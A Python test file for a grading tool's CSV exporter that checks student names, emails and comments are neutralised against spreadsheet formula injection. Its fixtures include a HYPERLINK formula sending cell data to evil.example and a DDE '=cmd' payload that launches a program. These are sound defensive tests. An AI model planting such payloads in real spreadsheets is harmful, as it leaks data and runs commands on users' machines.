"""Every CSV the grader writes is inert in a spreadsheet (OWASP's formula-injection rule), and scores stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from grader.batch.csvsafe import csv_text, safe_cell, unneutralise
from grader.batch.discover import Student
from grader.batch.manual import ManualScores, export_manual_csv, parse_manual_csv
from grader.batch.outputs import class_view, write_class_outputs
from grader.results.models import ItemStatus
from tests.batch.test_outputs import RUBRIC, record

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_string_cell_that_starts_a_formula_is_shown_as_text(text):
    assert safe_cell(text) == "'" + text.replace("\r", "\n")
    assert unneutralise(safe_cell(text)) == text.replace("\r", "\n")


def test_carriage_returns_inside_a_cell_do_not_split_the_row():
    text = csv_text([["a\r\nb\rc", 1], ["next", 2]])
    assert list(csv.reader(io.StringIO(text))) == [["a\nb\nc", "1"], ["next", "2"]]


def test_plain_text_and_numbers_are_left_as_they_are():
    assert safe_cell("Ann Lee") == "Ann Lee" and safe_cell("'quoted") == "'quoted"
    assert unneutralise("'quoted") == "'quoted"  # not ours: a quote the TA typed stays
    assert safe_cell(-1.5) == "-1.5" and safe_cell(3) == "3" and safe_cell(None) == ""
    assert csv_text([["-1", -1]]) == "'-1,-1\n"  # a string "-1" is text; the number -1 a score


def _hostile_class():
    records = {}
    for n, text in enumerate(HOSTILE):
        sid = f"s{n}"
        base = record(sid, (3, 2), name=text)
        records[sid] = base.model_copy(update={"student": Student(id=sid, name=text, email=text)})
    odd = record("-odd", (3, 2))  # an id that itself starts like a formula
    records["-odd"] = odd
    # a penalty the grader computed is a negative number and must stay a number
    penalised = record("pen", (3, 2))
    items = tuple(i.model_copy(update={"points": -1.0, "status": ItemStatus.FAILED}) if i.id == "2" else i
                  for i in penalised.result.items)
    records["pen"] = penalised.model_copy(update={"result": penalised.result.model_copy(update={"items": items})})
    return records


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_every_gradebook_neutralises_student_text_and_keeps_scores_numeric(tmp_path):
    views = class_view(_hostile_class(), ManualScores())
    paths = write_class_outputs(views, tmp_path, rubric=RUBRIC, title="=cmd|' /C calc'!A0")
    for name in ("gradebook", "canvas", "gradescope"):
        table = _cells(paths[name].read_text())
        for row in table:
            for cell in row:
                if cell.startswith(("=", "+", "@", "\t", "\r")):
                    pytest.fail(f"{name}.csv has a formula cell {cell!r} in {row}")
                if cell.startswith("-"):
                    float(cell)  # only a number the grader wrote may start with a minus
    book = {r["student"]: r for r in csv.DictReader(io.StringIO(paths["gradebook"].read_text()))}
    assert book["s0"]["name"] == "'" + HOSTILE[0] and book["s0"]["email"] == "'" + HOSTILE[0]
    assert "'-odd" in book and book["pen"]["2"] == "-1" and book["pen"]["total"] == "2"
    canvas = _cells(paths["canvas"].read_text())
    assert canvas[0][5] == "'=cmd|' /C calc'!A0"


def test_the_manual_sheet_is_neutralised_and_reads_back(tmp_path):
    records = _hostile_class()
    rows = [{"student": r.student.id, "name": r.student.name, "item": "3", "title": "bonus", "max_points": "1",
             "note": "", "keywords": "", "answer": "=1+1 is my answer", "points": "", "comment": ""}
            for r in records.values()]
    path = export_manual_csv(rows, tmp_path / "manual-items.csv")
    table = _cells(path.read_text())
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for c in row)
    # the TA fills in points (and a comment that starts like a formula) and imports the same file
    header = table[0]
    points, comment = header.index("points"), header.index("comment")
    filled = [header]
    for row in table[1:]:
        row = list(row)
        row[points], row[comment] = "1", "=great"  # csv_text writes the comment as '=great
        filled.append(row)
    text = csv_text(filled)
    assert "'=great" in text
    scores = parse_manual_csv(text, source="t.csv", records=records, rubric=RUBRIC)
    assert "-odd" in scores and scores["-odd"]["3"].points == 1 and scores["-odd"]["3"].comment == "=great"

